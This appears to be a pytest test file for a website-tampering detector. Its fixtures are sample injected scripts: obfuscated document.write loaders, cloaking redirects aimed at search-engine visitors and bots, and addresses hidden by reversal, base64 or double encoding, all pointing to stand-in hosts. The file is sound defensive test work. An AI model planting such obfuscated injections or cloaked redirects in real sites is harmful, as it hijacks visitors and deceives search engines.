@@ -1,0 +1,150 @@
+from base64 import b64encode
+from urllib.parse import quote
+
+import pytest
+
+from app.domain.tampering import TamperSign
+from app.engines.analyse.own_site.own_scripts import examine_scripts, looks_odd
+from app.engines.html.marks import find_marks
+from app.engines.html.own_page import OwnText
+
+PAGE = "https://www.corp.test/"
+DISGUISED = "document.write(unescape('%3Cscript src=%22http://%62%61%64.test/a.js%22%3E%3C/script%3E'))"
+STATISTICS = DISGUISED.replace("%62%61%64", "count")
+
+
+def found(code, known=()):
+    return list(examine_scripts([OwnText(code, "html > head > script")], PAGE, lambda host: host in known))
+
+
+def test_a_disguised_script_that_writes_a_foreign_one_is_a_sign():
+    (sign,) = found(DISGUISED)
+    assert (sign.sign, sign.leads_to) == (TamperSign.SCRIPT_WRITES, ("http://bad.test/a.js",))
+    assert sign.raw in DISGUISED
+    assert "bad.test" in sign.snippet
+
+
+def test_services_that_are_known_and_the_site_itself_write_as_they_like():
+    assert found(DISGUISED, known={"bad.test"}) == []
+    assert found(DISGUISED.replace(".test/", ".corp.test/")) == []
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        STATISTICS,  # escaped, as some services tell one to, and everybody can read who it is
+        "document.write('<script src=\"http://bad.test/a.js\"></scr'+'ipt>')",  # plain: a reference, and no sign
+        "var t = unescape('%E4%BD%A0%E5%A5%BD%2C%20http%3A%2F%2Fb.test')",  # a text
+    ],
+)
+def test_what_is_not_disguised_or_writes_nothing_is_no_sign(code):
+    assert found(code) == []
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "var r=document.referrer;if(/baidu|sogou/.test(r)){location.href='https://bad.test/x'}",
+        "if(document.referrer.indexOf('google.')>0) window.location.replace('//bad.test/x');",
+        "if(/Baiduspider|Googlebot/i.test(navigator.userAgent)) location = 'https://bad.test/x';",
+    ],
+)
+def test_who_sends_visitors_of_search_engines_or_robots_elsewhere_is_found(code):
+    (sign,) = found(code)
+    assert (sign.sign, sign.leads_to) == (TamperSign.SCRIPT_REDIRECTS, ("https://bad.test/x",))
+    assert looks_odd(code, find_marks(code.lower().encode()))
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "if(/Android|iPhone/i.test(navigator.userAgent)) location.href='https://m.corp.test/'",
+        "if(/iPhone/.test(navigator.userAgent)) location.href='https://apps.store.test/app'",
+        "if(/MicroMessenger/.test(navigator.userAgent)) location.href='https://open.pay.test/login'",
+        "var s=document.referrer; send('https://stat.test/?r='+s+'&e=baidu')",
+        "location.href='https://partner.test/'",
+    ],
+)
+def test_phones_apps_statistics_and_plain_redirects_are_none(code):
+    assert found(code) == []
+
+
+def test_an_address_that_is_written_backwards_or_decoded_twice_is_read():
+    backwards = "http://bad.test/tz"[::-1]
+    code = f"""var s="{backwards}".split("").reverse().join("");document.write("<ifr"+"ame src="+s+">")"""
+    assert [sign.leads_to for sign in found(code)] == [("http://bad.test/tz",)]
+    twice = b64encode(quote("<a href=https://bad.test/>x</a>", safe="").encode()).decode()
+    assert [sign.leads_to for sign in found(f'document.body.innerHTML=decodeURIComponent(atob("{twice}"))')] == [
+        ("https://bad.test/",)
+    ]
+    assert found('var a="abcdefghijk".split("").reverse().join("");document.write(a)') == []
+
+
+PHONES = "if(/Android|iPhone/i.test(navigator.userAgent)%s){location.replace('https://m.bad.test/')}"
+ONCE = '&&document.cookie.indexOf("v=1")<0'
+
+
+def test_who_sends_phones_elsewhere_once_a_day_is_found():
+    assert [sign.sign for sign in found(PHONES % ONCE)] == [TamperSign.SCRIPT_REDIRECTS]
+    assert found(PHONES % "") == []  # a site for phones that is somebody's own
+    assert found((PHONES % ONCE).replace("m.bad.test", "m.corp.test")) == []
+    assert found(PHONES % ONCE, known={"m.bad.test"}) == []
+
+
+def test_a_redirect_whose_address_and_whose_method_are_computed_is_found():
+    address = b64encode(b"https://bad.test/prize").decode()
+    code = f'if(document.referrer){{location[atob("cmVwbGFjZQ==")](atob("{address}"))}}'
+    assert [(sign.sign, sign.leads_to) for sign in found(code)] == [
+        (TamperSign.SCRIPT_REDIRECTS, ("https://bad.test/prize",))
+    ]
+    assert found(code.replace(address, b64encode(b"https://www.corp.test/prize").decode())) == []
+
+
+SEARCH = "if(document.referrer.indexOf('baidu')>0)"
+
+
+def test_a_redirect_by_a_name_whose_address_is_disguised_is_a_sign():
+    code = f"var s=unescape('%68%74%74%70%73://%62%61%64.test/');{SEARCH}{{self.location=s}}"
+    (sign,) = found(code)
+    assert (sign.sign, sign.leads_to) == (TamperSign.SCRIPT_REDIRECTS, ("https://bad.test/",))
+    assert "https://bad.test/" in sign.snippet
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"var s='https://m.corp.test/';{SEARCH}{{location=s}}",
+        f"var s=unescape('%68%74%74%70%73://%62%61%64.test/');{SEARCH}{{count(s)}}",
+        "var s=unescape('%68%74%74%70%73://%62%61%64.test/');if(menu.value){location=s}",
+        f"var s=unescape('%68%74%74%70%73://%6d.corp.test/');{SEARCH}{{self.location=s}}",
+    ],
+)
+def test_a_plain_name_or_no_question_about_search_engines_is_none(code):
+    assert found(code) == []
+
+
+BY_LIST = (
+    "var x=['https://prize.foreign.example/lp','google.'];"
+    "if(document.referrer.indexOf(x[1])>-1){setTimeout(function(){location.replace(x[0])},300)}"
+)
+
+
+@pytest.mark.parametrize("code", [BY_LIST, BY_LIST.replace("location.replace(x[0])", "location.href=x[0];")])
+def test_an_entry_of_a_list_leads_away_who_comes_from_a_search_engine(code):
+    found = list(examine_scripts([OwnText(code, "")], "https://www.school.example/", lambda _: False))
+    assert [(one.sign, one.leads_to) for one in found] == [
+        (TamperSign.SCRIPT_REDIRECTS, ("https://prize.foreign.example/lp",))
+    ]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        BY_LIST.replace("prize.foreign.example", "m.school.example"),
+        BY_LIST.replace("google.", "partner."),  # no search engine
+        BY_LIST.replace("location.replace(x[0])", "count(x[0])"),
+        BY_LIST.replace("prize.foreign.example/lp", "www.google.com/analytics"),
+    ],
+)
+def test_own_addresses_other_referrers_and_counters_lead_nobody_away(code):
+    assert list(examine_scripts([OwnText(code, "")], "https://www.school.example/", lambda _: False)) == []
